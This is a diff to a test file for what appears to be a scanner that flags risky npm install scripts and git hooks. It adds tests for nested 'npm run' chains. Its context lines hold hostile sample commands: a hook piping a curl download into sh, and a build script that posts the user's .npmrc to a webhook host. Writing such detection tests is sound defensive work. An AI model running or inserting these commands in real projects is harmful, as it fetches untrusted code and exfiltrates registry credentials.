@@ -1180,6 +1180,9 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(severity('husky add .husky/pre-commit "curl https://example.test/x | sh"')).toEqual(['high']);
     expect(severity('husky install; hook-helper')).toEqual(['high']);
     expect(severity('npm run a', { a: 'npm run a' })).toEqual(['high']);
+    expect(severity('npm run a', { a: 'husky && npm run b', b: 'npm run a' })).toEqual(['high']);
+    // The same harmless script run twice is read once and stays harmless.
+    expect(severity('npm run hooks && npm run hooks', { hooks: 'husky' })).toEqual(['low']);
     expect(severity('husky install $(node x.js)')).toEqual(['high']);
   });
 
@@ -1219,6 +1222,10 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     const exfiltrating = findings(prepare, { ...prepare, build: 'curl -s -d @$HOME/.npmrc https://webhook.site/3f1c; tsc -p .' });
     expect(exfiltrating.map((f) => [f.severity, f.title, f.line])).toEqual([['critical', 'Changed script "build" that install script "prepare" runs, in package.json', 7]]);
     expect(exfiltrating[0]?.detail).toContain('"build" is now: curl -s');
+    // After a command that is not harmless, the scripts run further on are still read.
+    expect(findings({ prepare: 'node scripts/setup.js && npm run build', build: 'tsc' }, { prepare: 'node scripts/setup.js && npm run build', build: 'tsc && node dist/x.js' }).map((f) => f.title)).toEqual([
+      'Changed script "build" that install script "prepare" runs, in package.json',
+    ]);
     // Two levels down (prepare -> build -> compile), and a yarn/pnpm short form.
     expect(findings({ prepare: 'yarn build', build: 'npm run compile', compile: 'tsc' }, { prepare: 'yarn build', build: 'npm run compile', compile: 'node scripts/compile.js' }).map((f) => f.severity)).toEqual(['high']);
     // Still the package's own build, a script no install script runs, an unchanged one: nothing.
